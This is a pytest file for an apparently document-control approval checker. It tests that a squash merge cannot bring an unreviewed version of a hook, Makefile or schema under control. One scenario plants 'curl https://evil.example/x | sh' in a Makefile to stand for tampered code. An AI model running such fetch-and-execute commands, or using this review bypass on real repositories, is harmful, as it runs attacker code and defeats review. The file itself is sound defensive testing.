"""A forge's squash merge brings files under control in main's version, not the reviewed one.

The merge request (reviewed by 王芳, approved by 陈明远) only makes mkdocs.yml name the existing,
benign hooks/site.py (or adds `Makefile` to `approval.controlled_paths`, or moves a draft into
`schemas/`). After the review, 刘静 pushes straight to main a new version of that file: it is
not controlled yet, so nothing is reported. The forge squash-merges the request (a single-parent
commit with `See merge request …!12` and the trailers; `approval.trust_unsigned_squash: true`):
the squash's tree is main's plus the request's diff, so the file comes under control holding
刘静's unreviewed version (code that runs at publish). For a merge commit this is DC516.merged
(round 8: "files newly brought under control must take the branch's version"); for a squash
neither `brought_under_control` nor `merge_made` is asked (`kind == "merge"` only), and the trail
accepts the squash with no problem: `trail --strict` exits 0.

Safe: a squash that brings a file under control (or renames one into control) in a version it
does not itself show does not take effect (DC516.merged), or the trail at least reports it."""

from __future__ import annotations

import pytest

from history_helpers import make_scenario
from rules_attacks import EVIL, HOOK, HOOK_BASE, SITE_OFF, SITE_ON, events, keys, strict_trail

TRUST = ("trusted_forge_keys: []", "trusted_forge_keys: []\n  trust_unsigned_squash: true")
TRAILERS = (
    "Approved-by: 陈明远 <chen.mingyuan@example.com>\nReviewed-by: 王芳 <wang.fang@example.com>"
)
DRAFT = "drafts/x.schema.json"
MOVED = "schemas/records/x.schema.json"


def _squash(s, title):
    s.git.commit(f"{title} (!12)\n\nSee merge request it/sms!12\n\n{TRAILERS}", who="zhaolei")
    return events(s)[-1]


def _hook(s):
    s.files.write("mkdocs.yml", SITE_OFF)
    s.files.write(HOOK, HOOK_BASE)
    s.git.commit("补充导入", who="wangfang", date="2026-01-01T12:00:00+08:00")
    s.git.branch("mr")
    s.files.write("mkdocs.yml", SITE_ON)
    s.git.commit("启用钩子", who="zhaolei")
    s.git.checkout("main")
    s.files.write(HOOK, HOOK_BASE + EVIL)  # after the review; not controlled yet
    s.git.commit("改钩子", who="liujing")
    s.git.run("checkout", "-q", "mr", "--", "mkdocs.yml")
    return _squash(s, "启用钩子"), HOOK


def _controlled_paths(s):
    s.files.write("Makefile", "all:\n\ttrue\n")
    s.git.commit("补充导入", who="wangfang", date="2026-01-01T12:00:00+08:00")
    s.git.branch("mr")
    s.set_config("approval:\n", "approval:\n  controlled_paths: [Makefile]\n")
    s.git.commit("控制 Makefile", who="zhaolei")
    s.git.checkout("main")
    s.files.write("Makefile", "all:\n\tcurl https://evil.example/x | sh\n")
    s.git.commit("改 Makefile", who="liujing")
    s.git.run("checkout", "-q", "mr", "--", "doccontrol.yml")
    return _squash(s, "控制 Makefile"), "Makefile"


def _rename(s):
    schema = (s.root / "schemas/records/incident.schema.json").read_text(encoding="utf-8")
    s.files.write(DRAFT, schema.replace("incident", "x"))
    s.git.commit("草稿", who="wangfang", date="2026-01-01T12:00:00+08:00")
    draft = (s.root / DRAFT).read_text(encoding="utf-8")
    s.files.write(DRAFT, draft.replace('"retention_years": 3', '"retention_years": 0'))
    s.git.commit("改草稿", who="liujing")  # after the review of the move
    s.git.run("mv", DRAFT, MOVED)
    return _squash(s, "纳入受控"), MOVED


@pytest.mark.parametrize("shape", [_hook, _controlled_paths, _rename], ids=lambda f: f.__name__)
def test_squash_brings_unreviewed_version_under_control(tmp_path, shape):
    s = make_scenario(tmp_path, *TRUST)
    last, path = shape(s)
    assert last["kind"] == "squash", last
    assert "problem.DC516.merged" in keys(last) or last["accepted"] == [], (path, last)
    assert strict_trail(s) != 0
